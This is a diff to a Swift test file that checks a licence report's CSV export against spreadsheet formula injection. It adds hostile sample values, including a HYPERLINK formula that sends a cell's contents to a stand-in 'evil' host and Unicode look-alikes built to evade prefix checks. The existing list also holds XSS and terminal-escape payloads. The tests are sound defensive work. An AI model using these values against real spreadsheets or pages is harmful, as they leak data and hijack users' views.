@@ -9,6 +9,7 @@ import Testing
     "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; --", "&lt;b&gt;", "`${x}`", "a\tb\r\nc",
     "\u{1B}]0;title\u{7}\u{9B}31m", "\u{202E}gpj.exe\u{2066}", "=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)",
     "  =1+1", "|calc", "产品名称很长很长", "e\u{301}\u{301}\u{301}", "👩‍👩‍👧‍👦 family", "a,b;c\"d", "</style></title>",
+    "=\u{308}HYPERLINK(\"http://evil/\"&A1,\"click\")", "\u{2212}1", "\u{FE66}SUM(A1)", "\u{A0}=1", "\"\u{301}=1",
   ]
 
   static var report: LicenceReport {
@@ -60,6 +61,11 @@ import Testing
     for row in rows.dropFirst() {
       let product = row[2].drop { $0 == " " }
       #expect(!["=", "+", "-", "@", "|", "\t"].contains(String(product.prefix(1))), "\(row[2])")
+    }
+    // By its first character's bytes, not by what it looks like together with the next.
+    for row in rows.dropFirst() {
+      let first = row[2].unicodeScalars.first { $0 != " " }
+      #expect(first.map { $0 == "'" || $0.properties.isAlphabetic || $0.properties.numericType == .decimal } ?? true)
     }
     #expect(rows.contains { $0[2] == "'=HYPERLINK(\"http://x\")" })
     #expect(rows.contains { $0[2] == "a,b;c\"d" })
